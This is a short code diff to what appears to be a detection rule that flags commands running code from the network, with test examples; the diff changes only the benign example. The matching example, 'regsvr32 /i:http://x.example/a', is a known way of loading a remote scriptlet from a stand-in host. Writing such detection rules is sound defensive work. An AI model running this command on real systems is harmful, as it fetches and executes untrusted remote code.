@@ -8,6 +8,6 @@ export default program({
   rules: [["**", "runs code from the network", { needs: "i=http:* i=https:*" }]],
   examples: {
     hit: ["regsvr32 /i:http://x.example/a"],
-    pass: ["regsvr32"],
+    pass: ["regsvr32 /s lib.dll"],
   },
 });
